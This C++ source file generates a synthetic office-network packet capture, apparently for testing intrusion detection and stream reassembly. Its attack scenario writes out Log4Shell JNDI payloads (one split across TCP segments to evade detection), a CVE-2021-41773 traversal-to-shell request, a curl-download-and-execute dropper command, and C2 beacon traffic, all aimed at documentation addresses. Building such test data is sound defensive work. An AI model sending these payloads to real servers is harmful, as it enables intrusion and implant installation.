#include "tools/demogen/office_scenario.h"

#include <string>
#include <utility>

#include "tools/demogen/datagram_exchanges.h"
#include "tools/demogen/dns_message.h"
#include "tools/demogen/http_message.h"
#include "tools/demogen/office_network.h"
#include "tools/demogen/port_scan.h"
#include "tools/demogen/tcp_conversation.h"

namespace mamori::demogen {
namespace {

constexpr Micros kDuration = 600 * kSecond;
constexpr uint8_t kFirstWorkstation = 10;
constexpr uint8_t kLastWorkstation = 40;

const char* const kScriptAgent = "curl/7.81.0";
const char* const kBeaconAgent = "Mozilla/4.0 (compatible; MSIE 6.0; mamori-demo-beacon)";
const char* const kNmapAgent = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
// Port-forwarded to 192.168.10.80 at the gateway; the tap sees the translated address.
const char* const kPublicWebName = "portal.office.example";

// 2001:db8::/32, the IPv6 documentation prefix.
Bytes documentationIpv6(uint8_t last) { return {0x20, 0x01, 0x0d, 0xb8, 0x01, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, last}; }

}  // namespace

OfficeScenario::OfficeScenario(CaptureFile& capture, uint64_t seed, Micros start)
    : capture_(capture), rng_(seed), start_(start), browsing_(capture_, rng_, resolver_) {
  resolver_ = officeHost(rng_, 2, kLinuxStack);
  webServer_ = officeHost(rng_, 80, kLinuxStack);
  for (uint8_t octet = kFirstWorkstation; octet <= kLastWorkstation; ++octet) {
    workstations_.push_back(officeHost(rng_, octet, kWindowsStack));
  }
  internetServers_ = {
      remoteHost(rng_, ipv4(198, 51, 100, 10), 11, 9 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 40), 14, 21 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 20), 12, 14 * kMillisecond),
      remoteHost(rng_, ipv4(198, 51, 100, 30), 10, 7 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 25), 13, 18 * kMillisecond),
      remoteHost(rng_, ipv4(198, 51, 100, 44), 11, 11 * kMillisecond),
  };
  ntpServer_ = remoteHost(rng_, ipv4(198, 51, 100, 123), 9, 6 * kMillisecond);
  attacker_ = remoteHost(rng_, ipv4(203, 0, 113, 66), 17, 38 * kMillisecond);
  c2Server_ = remoteHost(rng_, ipv4(198, 51, 100, 77), 19, 55 * kMillisecond);

  sites_ = {
      {"www.example.org", "www.example.org.cdn.example.net", &internetServers_[0], documentationIpv6(0x10), true, true},
      {"news.example.com", "", &internetServers_[1], {}, true, false},
      {"api.example.com", "", &internetServers_[2], {}, false, true},
      {"static.example.net", "", &internetServers_[3], documentationIpv6(0x30), false, true},
      {"mail.example.com", "", &internetServers_[4], {}, false, true},
      {"docs.example.org", "docs.example.org.cdn.example.net", &internetServers_[5], {}, true, true},
      {"intranet.office.example", "", &webServer_, {}, true, false, true},
  };
}

void OfficeScenario::generate() {
  for (Micros poll = 0; poll < kDuration; poll += 128 * kSecond) {
    ntpPoll(capture_, rng_, resolver_, ntpServer_, start_ + poll);
  }
  ping(capture_, rng_, workstations_[17 - kFirstWorkstation], webServer_, start_ + 75 * kSecond, 4);
  // The two pinned anomalies stream reassembly has to handle.
  browsing_.browseHttp(workstations_[15 - kFirstWorkstation], sites_[1], start_ + 33 * kSecond, Delivery::kInOrder,
                       Delivery::kFirstTwoSwapped);
  browsing_.browseHttp(workstations_[31 - kFirstWorkstation], sites_[0], start_ + 47 * kSecond,
                       Delivery::kFirstSegmentRetransmitted, Delivery::kInOrder);
  browsing_.officeHours(workstations_, sites_, start_ + 2 * kSecond, start_ + kDuration - 5 * kSecond, 2 * kSecond,
                        6 * kSecond);

  portScan(start_ + 61 * kSecond);
  serviceProbes(start_ + 80 * kSecond);
  exploitAttempts(start_ + 95 * kSecond);
  c2Beacons(start_ + 150 * kSecond);
}

void OfficeScenario::portScan(Micros at) {
  PortScan scan{commonPorts(rng_, 200), {22, 80, 443}, 10 * kMillisecond};
  synScan(capture_, rng_, attacker_, webServer_, at, scan);
}

void OfficeScenario::serviceProbes(Micros at) {
  // nmap -sC on the open web port: the http-title and http-robots.txt scripts, one
  // connection each, with the Nmap Scripting Engine's own User-Agent.
  const std::vector<std::pair<std::string, int>> probes = {{"/", 200}, {"/robots.txt", 404}};
  Micros next = at;
  for (const auto& [path, status] : probes) {
    TcpConversation connection(capture_, rng_, attacker_, webServer_, 80, next);
    connection.open();
    connection.send(Side::kClient, httpRequest("GET", path,
                                               {{"Connection", "close"},
                                                {"User-Agent", kNmapAgent},
                                                {"Host", kPublicWebName}}));
    connection.idle(rng_.between(1, 3) * kMillisecond);
    const std::string body =
        status == 200 ? htmlPage(rng_, "Office intranet", 2)
                      : "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n"
                        "</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n"
                        "</body></html>\n";
    connection.send(Side::kServer, httpResponse(status, status == 200 ? "OK" : "Not Found", connection.now(),
                                                {{"Server", "Apache/2.4.49 (Unix)"},
                                                 {"Content-Type", "text/html; charset=iso-8859-1"},
                                                 {"Connection", "close"}},
                                                body));
    connection.close(Side::kServer);
    next = connection.now() + rng_.between(200, 900) * kMillisecond;
  }
}

void OfficeScenario::exploitAttempts(Micros at) {
  struct Attempt {
    Micros offset;
    std::string request;
    size_t splitAt;  // npos: the whole request in one segment
    int status;
    const char* reason;
    const char* contentType;
    std::string body;
  };
  auto apacheError = [](const std::string& title, const std::string& heading, const std::string& text) {
    return "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>" + title +
           "</title>\n</head><body>\n<h1>" + heading + "</h1>\n<p>" + text + "</p>\n</body></html>\n";
  };
  const char* const html = "text/html; charset=iso-8859-1";
  const HttpHeaders script = {{"Host", kPublicWebName}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}};
  HttpHeaders rceHeaders = script;
  rceHeaders.emplace_back("Content-Type", "application/x-www-form-urlencoded");
  const HttpHeaders log4shellAgent = {
      {"Host", kPublicWebName}, {"User-Agent", "${jndi:ldap://203.0.113.66:1389/a}"}, {"Accept", "*/*"}};
  HttpHeaders log4shellHeader = script;
  log4shellHeader.emplace_back("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/b}");
  const std::string splitRequest = httpRequest("GET", "/api/status", log4shellHeader);
  const std::string shell = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh";

  const std::vector<Attempt> attempts = {
      // CVE-2021-44228 probes, which an Apache server shrugs off; the second cuts the lookup
      // string across two segments, so that only a reassembling engine sees it.
      {0, httpRequest("GET", "/", log4shellAgent), std::string::npos, 200, "OK", html,
       htmlPage(rng_, "Office intranet", 3)},
      {2 * kSecond, splitRequest, splitRequest.find("${jndi") + 4, 404, "Not Found", html,
       apacheError("404 Not Found", "Not Found", "The requested URL was not found on this server.")},
      // CVE-2021-41773: the traversal to a file is refused, but mod_cgi runs the shell it
      // reaches: the attacker checks who it runs as, then fetches and starts an implant.
      {15 * kSecond, httpRequest("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", script), std::string::npos, 403,
       "Forbidden", html,
       apacheError("403 Forbidden", "Forbidden", "You don't have permission to access this resource.")},
      {17500 * kMillisecond, httpRequest("POST", shell, rceHeaders, "echo;id"), std::string::npos, 200, "OK",
       "text/plain", "uid=1(daemon) gid=1(daemon) groups=1(daemon)\n"},
      {20 * kSecond,
       httpRequest("POST", shell, rceHeaders, "echo;curl -s -o /tmp/.u http://198.51.100.77/u;chmod +x /tmp/.u;/tmp/.u"),
       std::string::npos, 200, "OK", "text/plain", ""},
  };

  for (const Attempt& attempt : attempts) {
    TcpConversation connection(capture_, rng_, attacker_, webServer_, 80, at + attempt.offset);
    connection.open();
    if (attempt.splitAt == std::string::npos) {
      connection.send(Side::kClient, attempt.request);
    } else {
      connection.sendSplit(Side::kClient, attempt.request, attempt.splitAt);
    }
    // The dropper's download runs before the CGI script answers.
    if (&attempt == &attempts.back()) implantDownload(connection.now() + rng_.between(2, 6) * kMillisecond);
    connection.idle(rng_.between(1, 3) * kMillisecond);
    connection.send(Side::kServer, httpResponse(attempt.status, attempt.reason, connection.now(),
                                                {{"Server", "Apache/2.4.49 (Unix)"},
                                                 {"Content-Type", attempt.contentType}},
                                                attempt.body));
    connection.close(Side::kClient);
  }
}

void OfficeScenario::implantDownload(Micros at) {
  // A stripped ELF executable; only its magic and header are meaningful.
  std::string implant = std::string("\x7f" "ELF\x02\x01\x01", 7);
  implant.resize(64, '\0');
  while (implant.size() < 14'336) implant.push_back(static_cast<char>(rng_.next()));
  TcpConversation connection(capture_, rng_, webServer_, c2Server_, 80, at);
  connection.open();
  connection.send(Side::kClient,
                  httpRequest("GET", "/u", {{"Host", "198.51.100.77"}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}}));
  connection.idle(rng_.between(2, 10) * kMillisecond);
  connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                              {{"Server", "nginx"}, {"Content-Type", "application/octet-stream"}},
                                              implant));
  connection.close(Side::kClient);
}

void OfficeScenario::c2Beacons(Micros at) {
  Host& bot = webServer_;
  const std::string domain = "update.bad-c2.example";
  // The implant resolves IPv4 only, and the long TTL keeps the answer cached for the
  // whole capture: one lookup before the first beacon.
  dnsLookup(capture_, rng_, bot, resolver_, at - 600 * kMillisecond, domain, DnsType::kA,
            {DnsRecord{domain, DnsType::kA, 3600, {}, ipv4Bytes(c2Server_.ip)}}, 31 * kMillisecond);

  // The implant sleeps 60 s +-2 s between beacons, so the period shows in the intervals.
  Micros sentAt = at;
  for (int beacon = 1; beacon <= 8; ++beacon, sentAt += 60 * kSecond + rng_.between(-2 * kSecond, 2 * kSecond)) {
    TcpConversation connection(capture_, rng_, bot, c2Server_, 8080, sentAt);
    connection.open();
    connection.send(Side::kClient, httpRequest("POST", "/gate.php",
                                               {{"Host", domain + ":8080"},
                                                {"User-Agent", kBeaconAgent},
                                                {"Content-Type", "application/x-www-form-urlencoded"},
                                                {"Cache-Control", "no-cache"},
                                                {"Connection", "close"}},
                                               "id=WEB80-5F1C9A&seq=" + std::to_string(beacon) + "&st=idle"));
    connection.idle(rng_.between(2, 10) * kMillisecond);
    connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                                {{"Server", "nginx"},
                                                 {"Content-Type", "text/plain"},
                                                 {"Connection", "close"}},
                                                "noop"));
    connection.close(Side::kServer);
  }
}

}  // namespace mamori::demogen
